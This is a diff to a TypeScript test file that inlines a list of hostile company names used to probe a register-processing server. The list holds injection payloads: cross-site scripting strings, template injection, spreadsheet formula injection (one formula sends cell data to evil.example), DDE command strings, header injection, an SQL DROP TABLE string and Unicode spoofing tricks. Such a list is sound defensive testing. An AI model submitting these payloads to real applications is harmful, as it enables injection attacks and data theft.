@@ -14,7 +14,36 @@ import type { Store } from "../../server/store/ports/store.ts";
 import { firstReading, wholeOf } from "../../server/store/suite/suite-records.ts";
 import { type ServerProcess, startServerProcess } from "../bench/serving/server-process.ts";
 import { type Answer, sayRaw, send, type Sent } from "./client.ts";
-import { HOSTILE_NAMES } from "./hostile-names.ts";
+
+/** Company names that a register can contain and that target programs which process them. */
+export const HOSTILE_NAMES: readonly string[] = [
+  "<script>alert(1)</script>",
+  '"><img src=x onerror=alert(1)>',
+  "</title><svg onload=alert(1)>",
+  "javascript:alert(1)//",
+  "{{constructor.constructor('alert(1)')()}}",
+  "${7*7}<%= 7*7 %>#{7*7}",
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  "+1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "|calc",
+  " \t=1+1",
+  "＝1+1",
+  "\u200B=1+1",
+  "Foo;=1+1",
+  'Foo",=1+1,"',
+  "Foo\r\n=1+1",
+  "\u202Egnp.exe",
+  "\u2066hidden\u2069",
+  "A\r\nSet-Cookie: evil=1",
+  "'; DROP TABLE companies; --",
+  "%00%0d%0a",
+  "Ｎｏｒｄ ﷺ 𝔘𝔫𝔦",
+  `Z${"\u0335\u0321\u0489".repeat(30)}algo`,
+  "__proto__",
+];
 
 export const PASSWORD = "correct horse battery";
 /** Content of files that no request must be able to read. */
